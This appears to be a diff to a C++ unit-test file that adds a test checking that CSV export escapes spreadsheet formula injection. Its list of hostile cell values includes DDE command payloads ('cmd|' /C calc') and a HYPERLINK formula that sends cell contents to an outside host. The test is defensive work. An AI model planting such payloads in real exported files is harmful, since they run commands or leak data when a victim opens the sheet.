@@ -4,6 +4,7 @@
 
 #include <sqlite3.h>
 
+#include <algorithm>
 #include <fstream>
 #include <nlohmann/json.hpp>
 #include <set>
@@ -70,6 +71,40 @@ TEST(Csv, Rows) {
     EXPECT_EQ(csv({}, "edges"), "from_address,to_address,from_function,to_function,kind,times\n");
 }
 
+TEST(Csv, NoCellIsAFormula) {
+    const std::vector<std::string> hostile = {"=1+1",
+                                              "=HYPERLINK(\"http://a/\"&A1,\"b\")",
+                                              "+cmd|' /C calc'!A0",
+                                              "-2+3+cmd|' /C calc'!A0",
+                                              "@SUM(1+9)",
+                                              "\tx",
+                                              "\r=1",
+                                              "\n=1",
+                                              " =1",
+                                              "\xef\xbc\x9d"
+                                              "1",
+                                              "'=1",
+                                              "-",
+                                              "-1-1",
+                                              "+.",
+                                              "=",
+                                              "-[Class method:]"};
+    const std::vector<std::string> harmless = {"main", "a=1", "-5", "+12.5", "-.5", "operator-(A, B)", "", " x", "3 %"};
+    analysis::Answers answers;
+    for (const auto* texts : {&hostile, &harmless})
+        for (const std::string& text : *texts) answers.sources.push_back({text, {}});
+    const auto rows = parse_csv(csv(answers, "sources"));
+    ASSERT_EQ(rows.size(), 1 + hostile.size() + harmless.size());
+    for (std::size_t i = 0; i < hostile.size(); ++i) EXPECT_EQ(rows[1 + i][1], "'" + hostile[i]);
+    for (std::size_t i = 0; i < harmless.size(); ++i) EXPECT_EQ(rows[1 + hostile.size() + i][1], harmless[i]);
+    // By rule: no cell of text begins as a formula does, whatever is quoted.
+    for (const auto& row : rows) {
+        const std::string& cell = row[1];
+        if (cell.empty() || std::find(harmless.begin(), harmless.end(), cell) != harmless.end()) continue;
+        EXPECT_EQ(std::string("=+-@\t\r\n").find(cell[0]), std::string::npos) << cell;
+    }
+}
+
 TEST(Tables, CsvAndJsonSayTheSame) {
     for (const auto& answers : {small_answers(), sampled_answers(), random_answers(2, 300), analysis::Answers{}})
         for (const TableInfo& table : tables()) {
@@ -88,7 +123,8 @@ TEST(Tables, CsvAndJsonSayTheSame) {
                     } else if (value.is_number()) {
                         EXPECT_EQ(std::stod(field), value.get<double>());
                     } else if (field.find('\xff') == field.npos) {
-                        EXPECT_EQ(field, value.get<std::string>());
+                        // The apostrophe that keeps text from being a formula is no part of it.
+                        EXPECT_EQ(field.starts_with('\'') ? field.substr(1) : field, value.get<std::string>());
                     }
                     EXPECT_TRUE(c != 0 || !table.has_id || value == r);
                 }
